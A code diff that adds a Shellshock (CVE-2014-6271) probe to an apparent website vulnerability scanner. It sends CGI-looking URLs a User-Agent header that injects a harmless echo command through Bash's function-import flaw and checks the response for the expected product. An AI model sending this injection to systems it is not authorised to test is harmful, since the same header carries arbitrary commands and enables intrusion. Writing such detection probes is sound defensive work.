@@ -111,6 +111,26 @@ function probes(): Probe[] {
   ];
 }
 
+const commonGateway = /\/cgi-bin\/.|\.(?:cgi|sh)(?:$|\/)/i;
+const maxCommonGateway = 5;
+
+/** Bash took what stood behind a function in a variable for a command; the Common Gateway Interface sets them from headers. */
+function shellshock(url: string): Probe {
+  const product = newProduct();
+  const told = `echo Content-Type: text/plain; echo; echo $((${product.left}*${product.right}))`;
+  return {
+    cve: 'CVE-2014-6271',
+    product: 'Bash before 4.3 patch 25',
+    ask: () => ({
+      method: 'GET',
+      url,
+      headers: { 'user-agent': `() { :; }; ${told}` },
+      anonymous: true,
+    }),
+    proves: ({ response }) => product.isIn(response.body),
+  };
+}
+
 export const cveProbes: SiteCheck = {
   id: 'cve-probes',
   kind: 'site',
@@ -128,7 +148,11 @@ export const cveProbes: SiteCheck = {
   },
   async inspect(site, prober) {
     const found = [];
-    for (const probe of probes()) found.push(...(await at(site.origin, probe, prober)));
+    const scripts = [...site.addresses].filter((url) =>
+      commonGateway.test(new URL(url).pathname),
+    );
+    const asked = [...probes(), ...scripts.slice(0, maxCommonGateway).map(shellshock)];
+    for (const probe of asked) found.push(...(await at(site.origin, probe, prober)));
     return found;
   },
 };
